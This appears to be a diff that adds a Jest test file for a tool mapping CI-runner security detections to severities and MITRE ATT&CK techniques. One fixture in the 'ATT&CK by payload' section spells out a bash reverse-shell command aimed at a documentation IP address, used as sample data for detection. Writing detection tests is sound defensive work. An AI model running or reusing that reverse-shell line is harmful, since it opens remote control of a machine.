@@ -1,0 +1,170 @@
+import { describe, expect, it, test } from '@jest/globals';
+import { attackName, threatOf } from '../../src/detections/attack.ts';
+import type { Detection } from '../../src/detections/detection.ts';
+import { atLeast, grade, SEVERITIES } from '../../src/detections/severity.ts';
+import { MAPPINGS_DIR, loadMappings } from '../../src/mapping/load.ts';
+import { profilesOf } from '../../src/mapping/profiles.ts';
+import type { JsonObject } from '../../src/types.ts';
+import { payloadOf, profile, read } from './harness.ts';
+
+const shipped = profilesOf(loadMappings(MAPPINGS_DIR));
+const readShipped = (payload: JsonObject, severity = {}): Detection =>
+  read(payload, { ...shipped, severity });
+const attack = ({ threat }: Detection): string[] => [...(threat?.tactic.id ?? []), ...(threat?.ids ?? [])];
+
+/** reference/field-models.md §4, row by row, of the mappings that ship. */
+describe('the defaults of each kind', () => {
+  test.each<[string, string, string[]]>([
+    ['Reverse-Shell', 'critical', ['TA0002', 'T1059.004']],
+    ['Runner-Worker-Memory-Read', 'critical', ['TA0006', 'T1003.007']],
+    ['Compromised-Actions-Policy-Blocked', 'high', ['TA0001', 'T1195.001']],
+    ['Action-Uses-Imposter-Commit', 'high', ['TA0001', 'T1195.001']],
+    ['Privileged-Container', 'high', ['TA0004', 'T1611']],
+    ['Secret-In-Build-Log', 'high', ['TA0006', 'T1552']],
+    ['New-Outbound-Network-Call', 'medium', ['TA0011', 'T1071']],
+    ['HTTPS-Outbound-Network-Call', 'medium', ['TA0011', 'T1071.001']],
+    ['Domain-Blocked', 'medium', ['TA0011', 'T1071']],
+    ['Source-Code-Overwritten', 'medium', ['TA0001', 'T1195.002']],
+    ['Secrets-Policy-Blocked', 'medium', ['TA0002', 'T1677']],
+    ['Actions-Policy-Blocked', 'medium', []],
+    ['Action-Uses-Commit-From-Non-Default-Branch', 'low', ['TA0001', 'T1195.001']],
+    ['Runs-On-Policy-Blocked', 'low', []],
+  ])('%s is %s', (kind, word, ids) => {
+    const detection = readShipped(payloadOf(kind));
+    expect(detection.severity.word).toBe(word);
+    expect(attack(detection)).toEqual(ids);
+  });
+
+  it('name only tactics and techniques this program knows', () => {
+    for (const kind of [
+      'Reverse-Shell',
+      'Agent-Tampered',
+      'Suspicious-Network-Call',
+      'Suspicious-Process-Call',
+    ]) {
+      for (const { tactic, technique } of shipped.profile(kind)?.threat ?? []) {
+        expect(attackName(tactic)).toBeDefined();
+        if (technique !== undefined) expect(attackName(technique)).toBeDefined();
+      }
+    }
+  });
+});
+
+test('the numbers are those Elastic’s rules match on', () => {
+  expect(SEVERITIES.map((word) => grade(word).number)).toEqual([0, 21, 47, 73, 99]);
+  expect(atLeast('high', 'high')).toBe(true);
+  expect(atLeast('medium', 'high')).toBe(false);
+  expect(atLeast('critical', 'informational')).toBe(true);
+});
+
+describe('what the payload moves', () => {
+  test.each<[string, JsonObject, string]>([
+    ['Action-Uses-Imposter-Commit', { imposter_commit: { is_imposter_commit: false } }, 'medium'],
+    ['Action-Uses-Imposter-Commit', { imposter_commit: { is_imposter_commit: 'false' } }, 'medium'],
+    ['Action-Uses-Imposter-Commit', { imposter_commit: { is_imposter_commit: true } }, 'high'],
+    ['Action-Uses-Imposter-Commit', { imposter_commit: null }, 'high'],
+    ['Action-Uses-Imposter-Commit', { imposter_commit: 'x' }, 'high'],
+    [
+      'Secrets-Policy-Blocked',
+      {
+        workflow_contains_secrets: 'true',
+        is_non_default_branch: 'true',
+        workflow_matches_default_ref: 'false',
+      },
+      'high',
+    ],
+    [
+      'Secrets-Policy-Blocked',
+      { workflow_contains_secrets: true, is_non_default_branch: true, workflow_matches_default_ref: true },
+      'medium',
+    ],
+    ['Secrets-Policy-Blocked', { workflow_contains_secrets: true, is_non_default_branch: true }, 'medium'],
+    ['Threat-Intelligence', { severity: 'CRITICAL' }, 'critical'],
+    ['Threat-Intelligence', { severity: 'info' }, 'informational'],
+    ['pr_check_failure', { severity: 'high' }, 'high'],
+    // The kind alone says that it was stopped: its default has that in it.
+    ['Domain-Blocked', { is_lockdown: true }, 'medium'],
+    ['Reverse-Shell', { is_lockdown: true }, 'high'],
+    ['Reverse-Shell', { is_lockdown: 'true' }, 'high'],
+    ['Reverse-Shell', { is_lockdown: false }, 'critical'],
+    [
+      'Runner-Worker-Memory-Read',
+      { process_events: [{ pid: 1 }, { armour_event_process: { enforced_protection: true } }] },
+      'high',
+    ],
+    ['Action-Uses-Commit-From-Non-Default-Branch', { is_lockdown: true }, 'low'],
+  ])('%s with %j is %s', (kind, fields, word) => {
+    expect(readShipped(payloadOf(kind, fields)).severity.word).toBe(word);
+  });
+
+  it('never raises what is informational because it was stopped', () => {
+    const quiet = profile('Quiet', { severity: 'informational' });
+    const detection = read(payloadOf('Quiet', { is_lockdown: true }), { profile: () => quiet });
+    expect(detection.severity).toEqual({ word: 'informational', number: 0 });
+  });
+
+  it('gives way to the operator, who may name kinds nobody has seen', () => {
+    const severity = { 'Reverse-Shell': 'low', 'Brand-New': 'critical' } as const;
+    expect(readShipped(payloadOf('Reverse-Shell', { is_lockdown: true }), severity).severity.word).toBe(
+      'low',
+    );
+    expect(readShipped(payloadOf('Brand-New'), severity).severity.word).toBe('critical');
+    expect(readShipped(payloadOf('Other-New'), { _unknown: 'high' }).severity.word).toBe('high');
+  });
+});
+
+describe('what was stopped', () => {
+  const lockdown = read(payloadOf('Reverse-Shell', { is_lockdown: true }), {
+    profile: () => profile('Reverse-Shell', { type: ['start', 'allowed'] }),
+  });
+  it('is denied, blocked and a success of the defence', () => {
+    expect(lockdown.event).toMatchObject({ type: ['start', 'denied'], outcome: 'success' });
+    expect([lockdown.action, lockdown.lockdown]).toEqual(['blocked', true]);
+  });
+  it('is told from what was only seen', () => {
+    const seen = read(payloadOf('Reverse-Shell'));
+    expect([seen.action, seen.event.outcome, seen.event.type]).toEqual(['allowed', undefined, ['info']]);
+  });
+});
+
+describe('ATT&CK by payload', () => {
+  const shell = { exe: '/bin/bash', arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] };
+  test.each<[string, JsonObject, string[]]>([
+    ['Reverse-Shell', { process_events: [shell] }, ['TA0002', 'TA0011', 'T1059.004', 'T1095']],
+    ['Secret-In-Build-Log', { rule_id: 'private-key' }, ['TA0006', 'T1552.004']],
+    ['Secret-In-Artifact', { rule_id: 'private-key' }, ['TA0006', 'T1552.004']],
+    [
+      'HTTPS-Outbound-Network-Call',
+      { host: 'api.github.com', method: 'post', path: '/x' },
+      ['TA0011', 'TA0010', 'T1071.001', 'T1567.001'],
+    ],
+    [
+      'HTTPS-Outbound-Network-Call',
+      { host: 'api.github.com', method: 'GET', path: '/x' },
+      ['TA0011', 'T1071.001'],
+    ],
+    [
+      'HTTPS-Outbound-Network-Call',
+      { host: 'example.com', method: 'POST', path: '/x' },
+      ['TA0011', 'T1071.001'],
+    ],
+  ])('%s with %j', (kind, fields, ids) => {
+    expect(attack(readShipped(payloadOf(kind, fields)))).toEqual(ids);
+  });
+
+  it('lists parents beside sub-techniques, with their addresses', () => {
+    const threat = threatOf([{ tactic: 'TA0006', technique: 'T1003.007' }]);
+    expect(threat?.technique).toEqual({
+      id: ['T1003'],
+      name: ['OS Credential Dumping'],
+      reference: ['https://attack.mitre.org/techniques/T1003/'],
+      subtechnique: {
+        id: ['T1003.007'],
+        name: ['Proc Filesystem'],
+        reference: ['https://attack.mitre.org/techniques/T1003/007/'],
+      },
+    });
+    expect(threatOf([{ tactic: 'TA0002' }])).not.toHaveProperty('technique');
+    expect(threatOf([])).toBeUndefined();
+  });
+});
